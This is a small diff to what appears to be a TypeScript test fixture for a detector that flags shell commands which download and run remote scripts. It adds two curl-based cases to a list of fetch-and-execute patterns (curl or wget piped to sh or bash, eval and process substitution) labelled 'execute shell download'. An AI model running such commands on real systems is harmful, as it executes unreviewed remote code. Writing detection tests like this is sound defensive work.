@@ -221,6 +221,8 @@ const found: readonly (readonly [string, string])[] = [
   ['curl -s https://e.com/i | sh', 'execute shell download'],
   ['curl -s https://e.com/i 2>err.log | sudo bash', 'execute shell download'],
   ['wget -qO- https://e.com/i | bash -s -- --yes', 'execute shell download'],
+  ['curl https://e.com/i | bash -s -- -n', 'execute shell download'],
+  ['curl -o i.sh https://e.com/i; bash i.sh -n', 'execute shell download'],
   ['sh -c "$(curl -fsSL https://e.com/i)"', 'execute shell download'],
   ['eval "$(curl -s https://e.com/i)"', 'execute shell download'],
   ['bash <(curl -s https://e.com/i)', 'execute shell download'],
